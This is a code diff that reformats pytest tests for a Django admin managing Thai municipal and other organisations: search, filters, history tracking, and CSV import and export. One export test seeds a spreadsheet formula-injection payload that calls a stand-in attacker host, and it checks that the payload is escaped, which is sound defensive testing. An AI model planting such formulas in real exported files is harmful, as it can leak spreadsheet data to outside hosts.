@@ -35,9 +35,13 @@ def listed(client, **params) -> set[str]:
 
 @pytest.mark.parametrize(
     ("term", "expected"),
-    [("ยะลา", {"3950102"}), ("Yala", {"3950102"}), ("3500102", {"3500102"}),
-     ("เชียงใหม่", {"3500102", "2500101", "5450802"})],
-)  # fmt: skip
+    [
+        ("ยะลา", {"3950102"}),
+        ("Yala", {"3950102"}),
+        ("3500102", {"3500102"}),
+        ("เชียงใหม่", {"3500102", "2500101", "5450802"}),
+    ],
+)
 def test_admin_search_in_thai_english_and_code(admin_client, registry, term, expected):
     assert listed(admin_client, q=term) == expected
 
@@ -57,9 +61,14 @@ def test_admin_filters(admin_client, registry):
 def test_admin_adds_an_organisation_without_dla_code(admin_client, db):
     response = admin_client.post(
         reverse("admin:municipalities_organisation_add"),
-        {"dla_code": "", "kind": OrganisationKind.UNIVERSITY, "name_th": "มหาวิทยาลัยเชียงใหม่",
-         "name_en": "Chiang Mai University", "website": "https://www.cmu.ac.th"},
-    )  # fmt: skip
+        {
+            "dla_code": "",
+            "kind": OrganisationKind.UNIVERSITY,
+            "name_th": "มหาวิทยาลัยเชียงใหม่",
+            "name_en": "Chiang Mai University",
+            "website": "https://www.cmu.ac.th",
+        },
+    )
 
     assert response.status_code == 302, response.context["adminform"].form.errors
     university = Organisation.objects.get(name_en="Chiang Mai University")
@@ -92,8 +101,9 @@ def test_admin_changes_the_kind_and_keeps_its_history(admin_client, registry):
     org.refresh_from_db()
     assert org.kind == OrganisationKind.TOWN_MUNICIPALITY
     assert list(org.events.order_by("pgh_id").values_list("kind", flat=True)) == [
-        "subdistrict_municipality", "town_municipality"
-    ]  # fmt: skip
+        "subdistrict_municipality",
+        "town_municipality",
+    ]
     page = admin_client.get(url).content.decode()
     assert re.search(r"Subdistrict municipality</li>\s*<li>[^<]*Town municipality", page)
 
@@ -119,9 +129,12 @@ def test_admin_csv_import_previews_row_errors_then_imports(admin_client, registr
     good = csv.decode().splitlines()[:2]
     preview = admin_client.post(
         url,
-        {"import_file": SimpleUploadedFile("orgs.csv", "\n".join(good).encode()),
-         "format": "0", "resource": "0"},
-    )  # fmt: skip
+        {
+            "import_file": SimpleUploadedFile("orgs.csv", "\n".join(good).encode()),
+            "format": "0",
+            "resource": "0",
+        },
+    )
     confirm = preview.context["confirm_form"]
     with translation.override("en"):
         process = reverse("admin:municipalities_organisation_process_import")
@@ -130,17 +143,22 @@ def test_admin_csv_import_previews_row_errors_then_imports(admin_client, registr
     assert done.status_code == 302
     created = Organisation.objects.get(dla_code="6500197")
     assert (created.name_en, created.province.code, created.district.code) == (
-        "New SAO", "50", "5001"
-    )  # fmt: skip
+        "New SAO",
+        "50",
+        "5001",
+    )
     assert created.sort_key
 
 
 def test_admin_csv_export_has_the_dla_codes(admin_client, registry):
     response = admin_client.post(
         reverse("admin:municipalities_organisation_export"),
-        {"format": "0", "resource": "0", **{f"organisationresource_{f}": "on" for f in
-         ("dla_code", "name_th", "province")}},
-    )  # fmt: skip
+        {
+            "format": "0",
+            "resource": "0",
+            **{f"organisationresource_{f}": "on" for f in ("dla_code", "name_th", "province")},
+        },
+    )
 
     assert response.status_code == 200
     assert "3500102" in response.content.decode()
@@ -151,9 +169,12 @@ def test_admin_csv_export_escapes_formulae(admin_client, registry):
     OrganisationFactory(dla_code=None, name_th='=HYPERLINK("http://evil.example/"&A1)')
     response = admin_client.post(
         reverse("admin:municipalities_organisation_export"),
-        {"format": "0", "resource": "0", **{f"organisationresource_{f}": "on" for f in
-         ("dla_code", "name_th", "name_en")}},
-    )  # fmt: skip
+        {
+            "format": "0",
+            "resource": "0",
+            **{f"organisationresource_{f}": "on" for f in ("dla_code", "name_th", "name_en")},
+        },
+    )
 
     cells = {c for row in csv.reader(io.StringIO(response.content.decode())) for c in row}
     assert {"'@SUM(A1:A9)", '\'=HYPERLINK("http://evil.example/"&A1)'} <= cells
